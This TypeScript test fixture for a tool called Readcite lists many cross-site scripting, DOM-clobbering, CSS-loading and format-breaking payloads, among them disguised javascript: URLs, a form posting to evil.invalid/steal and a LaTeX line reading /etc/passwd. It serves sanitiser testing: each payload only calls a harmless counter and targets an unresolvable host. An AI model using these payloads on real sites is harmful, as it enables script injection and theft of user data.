/**
 * Hostile input for Readcite: strings and HTML that try to run code, load from elsewhere, or break out of
 * the formats Readcite writes. Each payload that would run code calls `pwn(id)`, defined by the test page,
 * so any execution is counted and named. External URLs point at evil.invalid, which never resolves.
 */

const EVIL = 'http://evil.invalid';
const pwn = (id: string) => `pwn('${id}')`;

/** Strings that reach the view and citations as text: titles, names, captions, meta and JSON-LD values. */
export const TEXT_PAYLOADS: string[] = [
  `<script>${pwn('t1')}</script>`,
  `<img src=x onerror="${pwn('t2')}">`,
  `"><svg onload=${pwn('t3')}>`,
  `'--></style></script><script>${pwn('t4')}</script>`,
  `javascript:${pwn('t5')}`,
  `<a href="javascript:${pwn('t6')}">x</a>`,
  `{{constructor.constructor('${pwn('t7')}')()}}`,
  `\${${pwn('t8')}}`,
  `<iframe srcdoc="<script>parent.${pwn('t9')}</script>">`,
  `</textarea><script>${pwn('t10')}</script>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${pwn('t11')}>`,
  `<details open ontoggle=${pwn('t12')}>`,
  `} \\end{document} \\input{/etc/passwd} {`,
  `\r\nER  - \r\nTY  - JOUR`,
  `"]}, "@context": "x`,
  `&lt;img src=x onerror=${pwn('t16')}&gt;`,
  `\u202Eevil\u202C`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `"><svg/onload=${pwn('t21')}>`,
  `</title><script>${pwn('t22')}</script>`,
  `<!--<script>${pwn('t23')}</script>-->`,
  `]]><script>${pwn('t24')}</script>`,
  `%3Cscript%3E${pwn('t25')}%3C/script%3E`,
  `[click me](javascript:${pwn('t26')}) ![x](${EVIL}/md.png) <${EVIL}/autolink>`,
  `@misc{evil, title = {x}} \\ \\def\\x{y} % comment`,
  `Line one\u2028Line two\u2029Line three`,
  `<style>*{background:url(${EVIL}/t.png)}</style>`,
  `x" onmouseover="${pwn('t30')}" data-x="`,
  `<img src=${EVIL}/text.png>`,
  `&#60;script&#62;${pwn('t32')}&#60;/script&#62;`,
  `\u0000null\u0000byte`,
  `<a href=data:text/html;base64,PHNjcmlwdD5wd24oJ3QzNCcpPC9zY3JpcHQ+>data</a>`,
  `TY  - JOUR\nAU  - Injected, Author\nER  - `,
  `<xss onafterscriptexecute=${pwn('t36')}><script>1</script>`,
];

/** HTML fragments placed in the article body, where they are live markup of the page. */
export const BODY_PAYLOADS: string[] = [
  `<img src="/x.jpg" onerror="${pwn('b1')}" onload="${pwn('b1l')}">`,
  `<img src="javascript:${pwn('b2')}">`,
  `<img srcset="${EVIL}/a.jpg 1x, javascript:${pwn('b3')} 2x" src="/ok.jpg">`,
  `<a href="javascript:${pwn('b4')}">javascript link</a>`,
  `<a href="JaVaScRiPt:${pwn('b5')}">mixed-case javascript link</a>`,
  `<a href="&#106;avascript:${pwn('b6')}">entity javascript link</a>`,
  `<a href=" javascript:${pwn('b7')}">spaced javascript link</a>`,
  `<a href="vbscript:msgbox(1)">vbscript link</a>`,
  `<a href="data:text/html,<script>${pwn('b9')}</script>">data link</a>`,
  `<a href="${EVIL}/" ping="${EVIL}/ping">pinging link</a>`,
  `<a href="/same" target="_top" onclick="${pwn('b11')}">onclick link</a>`,
  `<form action="${EVIL}/steal"><input name=q autofocus onfocus="${pwn('b12')}"><button formaction="javascript:${pwn('b12b')}">go</button></form>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${pwn('b14')}&lt;/script&gt;"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<frameset><frame src="${EVIL}/f"></frameset>`,
  `<base href="${EVIL}/">`,
  // An hour, not 0: the page itself must stay put; a copied refresh in the view would still be caught.
  `<meta http-equiv="refresh" content="3600;url=${EVIL}/">`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<style>@import url("${EVIL}/i.css"); p { background: url("${EVIL}/bg.png") }</style>`,
  `<p style="background-image: url('${EVIL}/inline.png'); width: expression(${pwn('b22')})">styled paragraph</p>`,
  `<svg><script>${pwn('b23')}</script><a xlink:href="javascript:${pwn('b23a')}"><text>svg link</text></a></svg>`,
  `<svg><animate onbegin="${pwn('b24')}" attributeName="x" dur="1s"/><image href="${EVIL}/svg.png"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${pwn('b25')}"></iframe></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${pwn('b26')}">math link</mi><maction actiontype="statusline">x</maction></math>`,
  `<template><img src=x onerror="${pwn('b27')}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${pwn('b28')}>"></noscript>`,
  `<form id="document"><input name="cookie"></form><img name="getElementById" src="/ok.jpg">`,
  `<div id="readcite-view">clobber</div><a id="__readcite" href="/x">clobber</a>`,
  `<video poster="${EVIL}/poster.png" onerror="${pwn('b31')}"><source src="${EVIL}/v.mp4"></video>`,
  `<audio src="${EVIL}/a.mp3" onloadstart="${pwn('b32')}"></audio>`,
  `<input type="image" src="${EVIL}/in.png">`,
  `<body onload="${pwn('b34')}">`,
  `<marquee onstart="${pwn('b35')}">marquee</marquee>`,
  `<div onmouseover="${pwn('b36')}" style="position:fixed;inset:0">hover trap</div>`,
  `<p>plain <b>bold</b> <i>italic</i> <code>&lt;script&gt;</code> text</p>`,
  `<blockquote cite="javascript:${pwn('b38')}">quote</blockquote>`,
  `<table background="${EVIL}/t.png"><tr><td background="${EVIL}/td.png">cell</td></tr></table>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${pwn('b40')}'/>">`,
  `<a href="mailto:x@example.org?body=<script>">mail link</a>`,
  `<portal src="${EVIL}/portal"></portal>`,
  `<dialog open onclose="${pwn('b43')}">dialog</dialog>`,
  `<slot name=x></slot><div slot=x onclick="${pwn('b44')}">slotted</div>`,
  `<img src=/ok.jpg alt="x" onerror="${pwn('b45')}" srcset="${EVIL}/ss.png">`,
  `<a href="//evil.invalid/protocol-relative">protocol relative</a>`,
  `<p>Clobber <a id="location" href="${EVIL}">location</a> and <img name="body" src="/ok.jpg"></p>`,
  `<script>${pwn('b48')}</script>`,
  `<p>entity &amp;lt;script&amp;gt;${pwn('b49')}&amp;lt;/script&amp;gt;</p>`,
  `<a href="java\tscript:${pwn('b50')}">tab javascript</a>`,
  // MathML is kept: its links, annotation-xml and namespace tricks are not.
  `<p>Formula <math><mi href="javascript:${pwn('b53')}">x</mi><mi xlink:href="${EVIL}/m">y</mi><semantics><mi>z</mi><annotation-xml encoding="text/html"><img src=x onerror=${pwn('b54')}></annotation-xml></semantics></math> <math><mtext><table><mglyph><style><img src=x onerror=${pwn('b55')}></style></mglyph></table></mtext></math></p>`,
  // Links within the article (footnotes) are kept, to prefixed ids: none may reach the view's elements or run code.
  `<p><a href="#readcite-view">to the view</a> <a id="fn-b51" href="#%22%3E%3Cimg%20src=x%20onerror=${pwn('b51')}%3E">encoded</a> <span id="user-content-fn-b51">pre-prefixed</span> <a href="#fn-b51" onclick="${pwn('b52')}">back</a></p>`,
  // Inline SVG that only draws is kept: every piece of SVG that runs, loads or names is not. Each drawing
  // is big enough (and has a shape) for the cleaner to keep it, so these reach the view's sanitiser.
  `<svg viewBox="0 0 400 200" onload="${pwn('b56')}"><script>${pwn('b57')}</script><rect width="400" height="20"/><text x="9" y="20">svg script</text></svg>`,
  `<svg viewBox="0 0 400 200"><foreignObject width="400" height="200"><img src="x" onerror="${pwn('b58')}"><iframe src="${EVIL}/svg-fo"></iframe></foreignObject><rect width="9" height="9"/></svg>`,
  `<svg viewBox="0 0 400 200"><use href="${EVIL}/use.svg#a"/><use xlink:href="${EVIL}/use-x.svg#b"/><image href="//evil.invalid/svg-image.png" width="400" height="200"/><image xlink:href="${EVIL}/svg-image-x.png"/><rect width="9" height="9"/></svg>`,
  `<svg viewBox="0 0 400 200"><a xlink:href="javascript:${pwn('b59')}"><text x="9" y="20">svg xlink link</text></a><a href="javascript:${pwn('b60')}"><rect width="400" height="20"/></a></svg>`,
  `<svg viewBox="0 0 400 200"><rect width="400" height="20"><animate attributeName="href" to="javascript:${pwn('b61')}" begin="0s"/><set attributeName="onclick" to="${pwn('b62')}" begin="0s"/></rect><a><animate attributeName="href" values="javascript:${pwn('b63')}" begin="0s" fill="freeze"/><set attributeName="xlink:href" to="${EVIL}/set" begin="0s"/><text y="40">animated link</text></a></svg>`,
  `<svg viewBox="0 0 400 200"><filter id="fx"><feImage href="${EVIL}/feimage.png"/><feImage xlink:href="${EVIL}/feimage-x.svg#x"/></filter><rect width="400" height="20" filter="url(#fx)"/></svg>`,
  `<svg viewBox="0 0 400 200"><style>@import url("${EVIL}/svg-import.css"); rect { fill: url(${EVIL}/svg-style.svg#f) }</style><rect width="400" height="20" style="fill:url(${EVIL}/svg-inline.svg#i)"/></svg>`,
  `<svg viewBox="0 0 400 200"><rect width="400" height="20" mask="url(${EVIL}/mask.svg#m)" clip-path="url('${EVIL}/clip.svg#c')" fill="url(${EVIL}/fill.svg#f)" marker-end="url(//evil.invalid/marker.svg#k)" filter="url(${EVIL}/filter.svg#f)" stroke="\\75rl(${EVIL}/escaped.svg#e)" cursor="url(${EVIL}/cursor.cur), auto"/></svg>`,
  `<svg viewBox="0 0 400 200"><textPath href="${EVIL}/path.svg#p">far path</textPath><linearGradient id="lg" href="${EVIL}/grad.svg#g"/><pattern id="pt" xlink:href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${pwn('b64')}'/&gt;"/><rect width="400" height="20" fill="url(#lg)"/><rect y="30" width="400" height="20" fill="url(#pt)"/></svg>`,
  // Clobbering through a drawing's ids, which the cleaner keeps where the drawing refers to them.
  `<p><a href="#rc-title">to the view's title</a></p><svg viewBox="0 0 400 200" id="rc-title"><linearGradient id="readcite-view"/><rect id="__readcite" name="getElementById" width="400" height="20" fill="url(#readcite-view)"/><text id="rc-note-preview" y="40">clobber</text></svg>`,
  // Namespace confusion: HTML smuggled through SVG's text and integration points.
  `<math><mtext><svg viewBox="0 0 400 200"><foreignObject><img src=x onerror=${pwn('b65')}></foreignObject><rect width="9" height="9"/></svg></mtext></math>`,
  `<svg viewBox="0 0 400 200"><desc><img src=x onerror=${pwn('b66')}>described</desc><title><style><img src=x onerror=${pwn('b67')}></style></title><rect width="9" height="9"/></svg>`,
  `<svg viewBox="0 0 400 200"></p><style><a id="</style><img src=1 onerror=${pwn('b68')}>"></a></style><rect width="9" height="9"/></svg>`,
  ...schemeMatrix(),
];

/**
 * Every dangerous URL form in every attribute that takes a URL: scripts by scheme (in its disguises),
 * documents and images by data:, and loads from elsewhere.
 */
function schemeMatrix(): string[] {
  const schemes = [
    (id: string) => `javascript:${pwn(id)}`,
    (id: string) => `JAVASCRIPT:${pwn(id)}`,
    (id: string) => `java&#x09;script:${pwn(id)}`,
    (id: string) => `&#x6A;avascript&#x3A;${pwn(id)}`,
    (id: string) => `javascript&colon;${pwn(id)}`,
    (id: string) => `&#0000106avascript:${pwn(id)}`,
    () => `data:text/html;base64,PHNjcmlwdD5wd24oJ2RhdGEnKTwvc2NyaXB0Pg==`,
    () => `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='pwn(1)'/%3E`,
    () => `vbscript:msgbox(1)`,
    () => `livescript:alert(1)`,
    () => `blob:${EVIL}/0f2a`,
    () => `${EVIL}/matrix`,
  ];
  const places = [
    (u: string) => `<a href="${u}">matrix link</a>`,
    (u: string) => `<img src="${u}" alt="matrix image">`,
    (u: string) => `<iframe src="${u}"></iframe>`,
    (u: string) => `<form action="${u}"><button>matrix form</button></form>`,
    (u: string) => `<object data="${u}"></object>`,
    (u: string) => `<map name="m"><area href="${u}" shape="rect" coords="0,0,9,9" alt="area"></map>`,
    (u: string) => `<svg><a href="${u}"><text>matrix svg</text></a></svg>`,
  ];
  return schemes.flatMap((scheme, i) => places.map((place, j) => place(scheme(`m${i}_${j}`))));
}
